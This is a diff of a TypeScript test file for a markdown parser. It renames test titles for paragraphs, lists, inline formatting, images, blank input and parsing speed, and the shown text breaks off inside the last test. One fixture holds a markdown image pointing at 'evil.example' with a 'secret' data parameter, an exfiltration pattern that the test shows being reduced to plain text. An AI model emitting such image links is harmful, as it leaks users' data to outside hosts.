@@ -6,14 +6,14 @@ const piecesOf = (line: string) => {
   return block?.kind === 'paragraph' ? block.lines[0] : undefined;
 };
 
-test('blank lines part paragraphs, single ones only lines', () => {
+test('separates paragraphs at blank lines and lines at single line breaks', () => {
   expect(blocksOf('One\ntwo\r\n\r\n\nThree')).toEqual([
     { kind: 'paragraph', lines: [[{ kind: 'text', text: 'One' }], [{ kind: 'text', text: 'two' }]] },
     paragraph('Three'),
   ]);
 });
 
-test('lists of both kinds and headings are blocks of their own', () => {
+test('parses headings and both kinds of lists as separate blocks', () => {
   const item = (text: string) => [{ kind: 'text', text }];
   expect(blocksOf('## What changes\n- one\n* two\n1. first\n2) second\nafter')).toEqual([
     { kind: 'heading', parts: item('What changes') },
@@ -23,7 +23,7 @@ test('lists of both kinds and headings are blocks of their own', () => {
   ]);
 });
 
-test('strong, emphasis, code and links are found within a line, one within the other', () => {
+test('parses strong, emphasis, code and links within a line, also nested', () => {
   expect(piecesOf('a **b _c_** `d*e*` [f](https://example.com)')).toEqual([
     { kind: 'text', text: 'a ' },
     {
@@ -41,20 +41,20 @@ test('strong, emphasis, code and links are found within a line, one within the o
 });
 
 test.each(['2 * 3 * 4', 'snake_case_name', '<b>bold</b>', '**', '[a](b c)', '[a]', '`'])(
-  '%j is the text that it is',
+  'keeps %j as text',
   (text) => expect(piecesOf(text)).toEqual([{ kind: 'text', text }]),
 );
 
-test('a picture is only its words', () => {
+test('replaces an image with its text', () => {
   expect(piecesOf('![a cat](https://evil.example/?d=secret)')).toEqual([{ kind: 'text', text: 'a cat' }]);
 });
 
-test('nothing at all has no blocks', () => {
+test('returns no blocks for blank content', () => {
   expect(blocksOf(' \n\t\n')).toEqual([]);
 });
 
 test.each(['*', '_', '`', '[', '![', '**a ', '[a](', '_a *b ', '- ', '# ', '1. ', '**_`[', '[a](b'])(
-  'a hundred thousand characters of %j are read in a moment',
+  'parses a hundred thousand characters of %j within 1.5 seconds',
   (sign) => {
     const begun = performance.now();
     blocksOf(sign.repeat(Math.ceil(100_000 / sign.length)));
